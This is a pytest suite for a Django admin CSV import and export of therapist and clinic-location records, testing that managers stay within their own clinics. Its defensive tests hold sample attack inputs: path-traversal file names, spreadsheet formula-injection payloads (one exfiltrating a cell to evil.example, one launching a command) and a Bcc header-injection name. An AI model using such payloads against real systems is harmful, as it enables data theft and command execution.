"""CSV import and export in the admin, limited to the manager's own clinics.

Alice manages Alpha; Bravo is someone else's clinic. Every import shows a
dry-run preview first and saves nothing until it is confirmed.
"""

import csv
import io
import os
import tempfile
import time

import pytest
from django.contrib.admin.models import LogEntry
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from therapists.models import Location, Therapist
from therapists.tests.factories import make_clinic, make_location, make_manager, make_place, make_therapist

pytestmark = pytest.mark.django_db

THERAPIST_HEADER = (
    "slug,first_name,last_name,discipline,languages,specialties,locations,"
    "new_patients,is_published,last_verified\n"
)
LOCATION_HEADER = "clinic,name,street,city,province,postal_code,latitude,longitude,wheelchair_accessible\n"


@pytest.fixture(autouse=True)
def quick_and_offline(settings):
    settings.GEOCODING_ENABLED = False
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def alpha():
    return make_clinic("Alpha Physio", slug="alpha-physio")


@pytest.fixture
def bravo():
    return make_clinic("Bravo Chiro", slug="bravo-chiro")


@pytest.fixture
def alpha_main(alpha):
    return make_location(alpha, name="Alpha Main", street="111 Alpha Street")


@pytest.fixture
def bravo_yonge(bravo):
    return make_location(
        bravo,
        name="Bravo Yonge",
        street="222 Bravo Avenue",
        city="Toronto",
        province="ON",
        postal_code="M5V 2T6",
    )


@pytest.fixture
def alice(client, alpha):
    user = make_manager("alice", alpha)
    client.force_login(user)
    return user


def preview(client, model: str, csv: str):
    """Upload a CSV: the dry run that shows what would happen."""
    return client.post(
        reverse(f"admin:therapists_{model}_import"),
        {"format": "0", "import_file": SimpleUploadedFile(f"{model}s.csv", csv.encode(), "text/csv")},
    )


def confirm(client, model: str, preview_response):
    form = preview_response.context["confirm_form"]
    return client.post(reverse(f"admin:therapists_{model}_process_import"), form.initial)


def row_errors(response) -> dict[int, str]:
    """Validation errors by row number (each row's messages joined); never a crash."""
    result = response.context["result"]
    assert not result.error_rows, [error.error for row in result.error_rows for error in row.errors]
    return {
        row.number: " ".join(f"{field}: {' '.join(messages)}" for field, messages in row.error_dict.items())
        for row in result.invalid_rows
    }


def test_it_previews_then_imports_a_good_therapist_file(client, alice, alpha_main):
    ann = make_therapist(slug="ann-alphason", first_name="Ann", last_name="Old", locations=[alpha_main])
    csv = THERAPIST_HEADER + (
        f'ann-alphason,Ann,Alphason,massage,"en,fr",deep-tissue-massage,{alpha_main.pk},accepting,1,2025-03-01\n'
        f"nora-newcomer,Nora,Newcomer,physiotherapy,fr,,{alpha_main.pk},not-accepting,0,\n"
    )

    response = preview(client, "therapist", csv)

    assert response.status_code == 200
    assert response.context["confirm_form"] is not None
    assert "Nora" in response.content.decode()
    assert not Therapist.objects.filter(slug="nora-newcomer").exists()

    confirmed = confirm(client, "therapist", response)

    assert confirmed.status_code == 302
    ann.refresh_from_db()
    assert ann.last_name == "Alphason"
    assert set(ann.languages.values_list("code", flat=True)) == {"en", "fr"}
    assert list(ann.specialties.values_list("slug", flat=True)) == ["deep-tissue-massage"]
    nora = Therapist.objects.get(slug="nora-newcomer")
    assert (nora.discipline.slug, nora.accepting_new_patients, list(nora.locations.all())) == (
        "physiotherapy",
        False,
        [alpha_main],
    )
    assert LogEntry.objects.filter(user=alice, object_id=str(nora.pk)).exists()


def test_it_reports_each_bad_row_and_imports_nothing(client, alice, alpha_main):
    csv = THERAPIST_HEADER + (
        f"good-one,Good,One,massage,en,,{alpha_main.pk},accepting,1,\n"
        f"bad-discipline,Bad,Discipline,reiki,en,,{alpha_main.pk},accepting,1,\n"
        f"bad-language,Bad,Language,massage,klingon,,{alpha_main.pk},accepting,1,\n"
        f"bad-date,Bad,Date,massage,en,,{alpha_main.pk},accepting,1,yesterday\n"
        "no-location,No,Location,massage,en,,,accepting,1,\n"
        "bad-location,Bad,Location,massage,en,,downtown,accepting,1,\n"
        f",Missing,Slug,massage,en,,{alpha_main.pk},accepting,1,\n"
    )

    response = preview(client, "therapist", csv)

    assert response.status_code == 200
    assert response.context.get("confirm_form") is None
    errors = row_errors(response)
    assert sorted(errors) == [2, 3, 4, 5, 6, 7]
    assert "Unknown discipline" in errors[2]
    assert "Unknown language: klingon" in errors[3]
    assert "last_verified: Value could not be parsed" in errors[4]
    assert "at least one of your location" in errors[5]
    assert "locations: Unknown location: downtown" in errors[6]
    assert "slug: This field cannot be blank" in errors[7]
    assert not Therapist.objects.exists()


def test_it_refuses_a_therapist_file_that_names_another_clinic(client, alice, alpha_main, bravo_yonge):
    bea = make_therapist(slug="bea-bravoman", first_name="Bea", last_name="Bravoman", locations=[bravo_yonge])
    csv = THERAPIST_HEADER + (
        f"nora-newcomer,Nora,Newcomer,massage,en,,{bravo_yonge.pk},accepting,1,\n"
        f"bea-bravoman,Bea,Takenover,massage,en,,{alpha_main.pk},accepting,1,\n"
    )

    response = preview(client, "therapist", csv)

    errors = row_errors(response)
    assert f"Unknown location id: {bravo_yonge.pk} (the ids of your locations" in errors[1]
    assert "already exists" in errors[2]
    text = response.content.decode()
    assert "Bravo Yonge" not in text and "Bravoman" not in text and "222 Bravo" not in text
    bea.refresh_from_db()
    assert (bea.last_name, list(bea.locations.all())) == ("Bravoman", [bravo_yonge])
    assert not Therapist.objects.filter(slug="nora-newcomer").exists()


def test_it_refuses_a_location_file_that_names_another_clinic(client, alice, bravo_yonge):
    csv = LOCATION_HEADER + (
        "bravo-chiro,Bravo Yonge,1 Hijack Road,Toronto,ON,M5V 2T6,,,1\n"
        "bravo-chiro,Brand New,2 Hijack Road,Toronto,ON,M5V 2T6,43.6,-79.4,0\n"
    )

    response = preview(client, "location", csv)

    errors = row_errors(response)
    assert "Unknown clinic" in errors[1] and "Unknown clinic" in errors[2]
    assert "222 Bravo" not in response.content.decode()
    bravo_yonge.refresh_from_db()
    assert bravo_yonge.street == "222 Bravo Avenue"
    assert Location.objects.count() == 1


def test_it_imports_locations_and_places_those_without_coordinates(client, alice, alpha, alpha_main):
    make_place("R3C", "MB", (49.8955, -97.1385))
    csv = LOCATION_HEADER + (
        "alpha-physio,Alpha Main,111 Alpha Street,Winnipeg,MB,R3C 4T3,49.9,-97.2,1\n"
        "alpha-physio,Exchange,100 Princess St,Winnipeg,MB,r3c1a1,,,0\n"
    )

    response = preview(client, "location", csv)
    confirm(client, "location", response)

    alpha_main.refresh_from_db()
    assert (alpha_main.latitude, alpha_main.longitude, alpha_main.wheelchair_accessible) == (
        49.9,
        -97.2,
        True,
    )
    exchange = alpha.locations.get(name="Exchange")
    assert (exchange.latitude, exchange.longitude, exchange.postal_code) == (49.8955, -97.1385, "R3C 1A1")


def test_it_reports_location_rows_it_cannot_place_or_read(client, alice, alpha):
    csv = LOCATION_HEADER + (
        "alpha-physio,Nowhere,1 Lost Lane,Atlantis,MB,X0X 0X0,,,0\n"
        "alpha-physio,Bad Postal,1 Main St,Winnipeg,MB,12345,49.9,-97.1,0\n"
        "alpha-physio,Half,1 Main St,Winnipeg,MB,R3C 4T3,49.9,,0\n"
        "alpha-physio,Bad Province,1 Main St,Winnipeg,XX,R3C 4T3,49.9,-97.1,0\n"
        ",No Clinic,1 Main St,Winnipeg,MB,R3C 4T3,49.9,-97.1,0\n"
    )

    response = preview(client, "location", csv)

    errors = row_errors(response)
    assert "could not find this postal code or city" in errors[1]
    assert "Canadian postal code" in errors[2]
    assert "Give both latitude and longitude" in errors[3]
    assert "not a valid choice" in errors[4]
    assert "Give the clinic" in errors[5]
    assert not alpha.locations.exists()


def test_it_keeps_a_shared_therapists_other_clinic_when_a_manager_imports_them(
    client, alice, alpha, alpha_main, bravo_yonge
):
    alpha_north = make_location(alpha, name="Alpha North")
    sam = make_therapist(slug="sam-sharedford", locations=[alpha_main, bravo_yonge])
    csv = THERAPIST_HEADER + f"sam-sharedford,Sam,Sharedford,massage,en,,{alpha_north.pk},accepting,1,\n"

    confirm(client, "therapist", preview(client, "therapist", csv))

    assert set(sam.locations.all()) == {alpha_north, bravo_yonge}


def test_it_exports_a_shared_therapist_with_only_the_managers_own_locations(
    client, alice, alpha_main, bravo_yonge
):
    make_therapist(slug="sam-sharedford", locations=[alpha_main, bravo_yonge])
    columns = client.get(reverse("admin:therapists_therapist_export")).context["form"].fields

    response = client.post(
        reverse("admin:therapists_therapist_export"),
        {"format": "0", "resource": "0", **{name: "on" for name in columns if name.startswith("therapist")}},
    )

    lines = response.content.decode().splitlines()
    assert lines[0].startswith("slug,first_name,last_name,discipline")
    assert lines[1].startswith("sam-sharedford,")
    assert f"{alpha_main.clinic.name}: {alpha_main.street}, {alpha_main.city}" in lines[1]
    assert bravo_yonge.street not in lines[1]


def test_it_round_trips_an_export_through_the_import(client, alice, alpha_main):
    make_therapist(slug="ann-alphason", locations=[alpha_main], languages=[])
    columns = client.get(reverse("admin:therapists_therapist_export")).context["form"].fields
    exported = client.post(
        reverse("admin:therapists_therapist_export"),
        {"format": "0", "resource": "0", **{name: "on" for name in columns if name.startswith("therapist")}},
    ).content.decode()

    response = preview(client, "therapist", exported)

    assert response.context["confirm_form"] is not None
    assert [row.import_type for row in response.context["result"].rows] == ["skip"]


@pytest.mark.parametrize("csv", ["", "not,a,therapist\n1,2,3\n", "\x00\x01\x02"])
def test_it_explains_a_file_it_cannot_read(client, alice, csv):
    response = preview(client, "therapist", csv)

    assert response.status_code == 200
    assert response.context["form"].errors or response.context["result"].has_errors()
    assert not Therapist.objects.exists()


def test_it_lets_the_operator_import_for_any_clinic(client, bravo_yonge):
    from therapists.tests.factories import make_user

    client.force_login(make_user("olivia", superuser=True))
    csv = THERAPIST_HEADER + f"nora-newcomer,Nora,Newcomer,massage,en,,{bravo_yonge.pk},accepting,1,\n"

    confirm(client, "therapist", preview(client, "therapist", csv))

    assert list(Therapist.objects.get(slug="nora-newcomer").locations.all()) == [bravo_yonge]


# The uploaded file between preview and confirmation.


@pytest.fixture(autouse=True)
def upload_dir(settings, tmp_path):
    settings.IMPORT_UPLOAD_DIR = tmp_path / "uploads"
    return settings.IMPORT_UPLOAD_DIR


def good_therapist_csv(location) -> str:
    return THERAPIST_HEADER + f"nora-newcomer,Nora,Newcomer,massage,en,,{location.pk},accepting,1,\n"


def test_it_keeps_an_upload_in_its_own_folder_and_removes_it_once_imported(
    client, alice, alpha_main, upload_dir
):
    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))

    assert len(list(upload_dir.iterdir())) == 1
    confirm(client, "therapist", previewed)
    assert list(upload_dir.iterdir()) == []
    assert Therapist.objects.filter(slug="nora-newcomer").exists()


@pytest.mark.parametrize(
    "name", ["victim.csv", "../victim.csv", "/tmp/victim.csv", "0123456789abcdef0123456789abcdef"]
)
def test_it_never_reads_or_deletes_a_file_the_browser_names(
    client, alice, alpha_main, tmp_path, monkeypatch, name
):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))  # the server's temp folder
    victim = tmp_path / "victim.csv"
    victim.write_text(good_therapist_csv(alpha_main))
    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
    data = {**previewed.context["confirm_form"].initial, "import_file_name": name}

    response = client.post(reverse("admin:therapists_therapist_process_import"), data, follow=True)

    assert response.status_code == 200
    assert "Upload the file again" in response.content.decode()
    assert victim.exists()
    assert not Therapist.objects.filter(slug="nora-newcomer").exists()


def test_it_does_not_let_one_manager_confirm_anothers_upload(client, alice, alpha, alpha_main):
    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
    client.force_login(make_manager("amir", alpha))

    response = confirm(client, "therapist", previewed)

    assert response.status_code == 302
    assert not Therapist.objects.filter(slug="nora-newcomer").exists()


def test_it_explains_an_upload_that_is_gone(client, alice, alpha_main, upload_dir):
    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
    for path in upload_dir.iterdir():
        path.unlink()

    response = client.post(
        reverse("admin:therapists_therapist_process_import"),
        previewed.context["confirm_form"].initial,
        follow=True,
    )

    assert response.status_code == 200
    assert "expired or was already imported" in response.content.decode()


@pytest.mark.parametrize("value", ["7", "-1", "x", "", "²"])
def test_it_explains_an_unknown_format(client, alice, alpha_main, value):
    previewed = preview(client, "therapist", good_therapist_csv(alpha_main))
    data = {**previewed.context["confirm_form"].initial, "format": value}

    response = client.post(reverse("admin:therapists_therapist_process_import"), data, follow=True)

    assert response.status_code == 200
    assert not Therapist.objects.filter(slug="nora-newcomer").exists()


def test_it_removes_uploads_nobody_confirmed(client, alice, alpha_main, upload_dir):
    upload_dir.mkdir()
    abandoned = upload_dir / ("a" * 32)
    abandoned.write_text("slug\n")
    os.utime(abandoned, (time.time() - 3 * 3600,) * 2)

    preview(client, "therapist", good_therapist_csv(alpha_main))

    assert not abandoned.exists()
    assert len(list(upload_dir.iterdir())) == 1


# Exports opened in a spreadsheet.


def export_csv(client, model: str = "therapist") -> str:
    columns = client.get(reverse(f"admin:therapists_{model}_export")).context["form"].fields
    return client.post(
        reverse(f"admin:therapists_{model}_export"),
        {"format": "0", "resource": "0", **{name: "on" for name in columns if name.startswith(model)}},
    ).content.decode()


@pytest.mark.parametrize(
    "bio",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
    ],
)
def test_it_exports_text_that_no_spreadsheet_runs_as_a_formula(client, alice, alpha_main, bio):
    make_therapist(slug="sam-sharedford", locations=[alpha_main], bio=bio)

    exported = export_csv(client)

    assert csv.DictReader(io.StringIO(exported, newline="")).__next__()["bio"] == "'" + bio


def test_it_exports_numbers_as_numbers(client, alice, alpha):
    make_location(alpha, name="West", at=(49.9, -97.2))

    exported = export_csv(client, "location")

    assert ",-97.2," in exported


def test_it_round_trips_a_bio_that_looks_like_a_formula(client, alice, alpha_main):
    make_therapist(slug="ann-alphason", locations=[alpha_main], languages=[], bio="=1+1 is two")

    response = preview(client, "therapist", export_csv(client))

    assert [row.import_type for row in response.context["result"].rows] == ["skip"]


def test_it_refuses_an_imported_name_with_a_line_break(client, alice, alpha_main):
    csv = (
        THERAPIST_HEADER
        + f'nora-newcomer,"Nora\nBcc: x@evil.example",Newcomer,massage,en,,{alpha_main.pk},accepting,1,\n'
    )

    response = preview(client, "therapist", csv)

    assert "first_name" in row_errors(response)[1]
    assert not Therapist.objects.exists()
